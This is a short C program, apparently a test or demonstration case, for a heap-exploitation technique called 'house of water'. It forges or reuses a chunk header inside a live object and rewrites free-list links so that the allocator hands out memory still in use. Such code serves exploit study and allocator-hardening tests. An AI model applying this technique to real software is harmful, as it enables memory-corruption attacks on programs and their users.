/* Usage: house_of_water SIZE forged|stale
   Two free chunks of one bin, and between them in the list a forged third
   inside a live object, with links that agree on all sides: it would be given
   out though it is in use. "stale": at a header that the heap left behind. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv);
    warm(n);
    unsigned char *first = take_raw(n);
    take(n);
    unsigned char *last = take_raw(n);
    take(n);
    unsigned char *front = take_raw(n), *inner = take_raw(n);
    take(n);
    size_t chunk = malloc_usable_size(first) + 8;
    unsigned char *mine = merge(front, inner);
    unsigned char *fake = is(argv, "stale") ? inner : mine + 64;
    if (!is(argv, "stale")) {
        *size_word(fake) = (uint32_t)chunk | 4;
        *tag(fake) = 0x41414141;
    }
    drop(last);
    drop(first);
    if (n < 2000)
        malloc_trim(0);
    /* The list is first, last; it becomes first, fake, last. */
    uint64_t *foot = (uint64_t *)(fake + chunk - 16);
    *foot = chunk;
    *size_word(fake + chunk) &= ~1u;
    links(fake)[0] = address(last);
    links(fake)[1] = address(first);
    links(first)[0] = links(last)[1] = address(fake);
    for (int i = 0; i < 4; i++)
        take(n);
    return settle();
}
